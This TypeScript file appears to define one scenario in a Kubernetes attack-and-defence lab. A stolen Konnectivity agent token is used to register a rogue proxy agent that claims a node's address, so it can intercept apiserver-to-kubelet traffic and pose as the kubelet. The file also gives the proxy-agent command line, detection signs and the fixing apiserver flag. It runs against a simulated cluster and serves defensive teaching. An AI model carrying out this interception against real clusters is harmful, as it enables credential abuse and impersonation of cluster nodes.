import { atOwnAddress } from '../../attacker/position';
import type { Host } from '../../network/network';
import { addresses, ports } from '../addresses';
import { defenceSettings } from '../defences';
import { AGENT_AUDIENCE, agentToken, startLabAgent } from '../konnectivity';
import { clientOn } from './client-on';
import { poseAsKubelet } from './pose-as-kubelet';
import type { Scenario } from './scenario';

const ROGUE = 'rogue';

export const konnectivityRogueAgent: Scenario = {
  id: 'konnectivity-rogue-agent',
  title: 'an agent of nobody’s that draws a node’s traffic to itself',
  story:
    'Whoever has the token of a Konnectivity agent, out of its pod for example, can be one. What an agent says of itself is held against nothing: with destHost among the proxy strategies, the first that registers ipv4=<address of a node> gets every connection that the apiserver opens to that node. Konnectivity moves the way and authenticates nobody at its end, so the rogue agent answers for the kubelet itself, unless the apiserver verifies kubelets: then it has addresses, sizes and times, and can hang up.',
  needs: 'The token of an agent’s service account, and a way to the proxy server’s port for agents.',
  evidence:
    'The genuine proxy server hands the apiserver’s connection to the rogue agent, and kubectl prints what it invented, or the x509 error of an apiserver that verifies.',
  attack: ['T1528'],
  setting: {
    name: 'kube-apiserver --kubelet-certificate-authority',
    open: 'not set',
    fixed: '/etc/kubernetes/pki/ca.crt',
  },
  notice:
    'In the proxy server’s log an agentID that no DaemonSet started, and an agent that identifies itself with a node on which it does not run. With the flag set, x509 in what the apiserver answers for that one node, while the proxy server calls the connection established.',
  sources: [
    'kubernetes-sigs/apiserver-network-proxy, pkg/server/desthost_backend_manager.go',
    'kubernetes-sigs/apiserver-network-proxy, pkg/server/server.go (Connect)',
    'pkg/kubelet/client/kubelet_client.go',
  ],
  async play(stage, twin) {
    const settings = defenceSettings(twin === 'open' ? 'konnectivity' : 'konnectivity-kubelet-ca');
    // Kubelets have certificates that can be verified, in both.
    const cluster = await stage.cluster({
      ...settings,
      kubelet: { serverTLSBootstrap: true },
      kubeletServing: 'cluster-authority',
    });
    const { attackerHost, admin, pki, konnectivity } = cluster;
    if (konnectivity === null) throw new Error('this cluster has no proxy server');
    const { signal } = stage;

    const token = await agentToken(admin);
    await stage.did(
      'attacker',
      'has got hold of what a kubelet projects into the pod of an agent: /var/run/secrets/tokens/konnectivity-agent-token',
      `a token for audience ${AGENT_AUDIENCE}, ${token.slice(0, 24)}…`,
    );
    await using thief = clientOn(attackerHost, cluster, { token });
    const pods = await thief.request('GET', '/api/v1/pods', { signal });
    const list = 'kubectl --token=… get pods -A';
    if (pods.ok)
      await stage.gained('attacker', list, 'the pods', 'the API, with a token of another audience');
    else await stage.did('attacker', list, `${pods.words} (the apiserver is no audience of this token)`);

    const dialled: string[] = [];
    const victim = addresses.node1;
    const agent = stage.closeLater(
      startLabAgent(
        { pki, log: stage.log },
        {
          host: {
            ...hostOf(attackerHost),
            dial: (to, options) => {
              const here = to.host === victim && to.port === ports.kubelet;
              if (to.host !== addresses.konnectivityServer) dialled.push(`${to.host}:${to.port}`);
              return attackerHost.dial(here ? { host: addresses.attacker, port: to.port } : to, options);
            },
          },
          agentId: ROGUE,
          identifiers: `ipv4=${victim}`,
          token: async () => token,
        },
      ),
    );
    const problem = await agent.nextAttempt();
    const run = `proxy-agent --agent-id=${ROGUE} --agent-identifiers=ipv4=${victim} --service-account-token-path=…`;
    if (problem !== null) {
      await stage.refused('attacker', run, problem);
      return;
    }
    await konnectivity.server.whenConnected(ROGUE, signal);
    await stage.did('attacker', run, `connected, beside ${konnectivity.agent.agentId}`);

    const kubelet = await poseAsKubelet(stage, cluster, {
      address: victim,
      position: atOwnAddress('its own agent dials what it likes'),
      present: null,
    });
    await kubelet.isAskedFor('web');
    await stage.did('attacker', 'looks at what its agent was told to dial', [...new Set(dialled)].join(', '));
  },
};

/** All of a machine but how it dials. */
function hostOf(host: Host): Omit<Host, 'dial'> {
  return {
    name: host.name,
    addresses: host.addresses,
    timeline: host.timeline,
    resolve: (name) => host.resolve(name),
    listen: (at, accept) => host.listen(at, accept),
  };
}
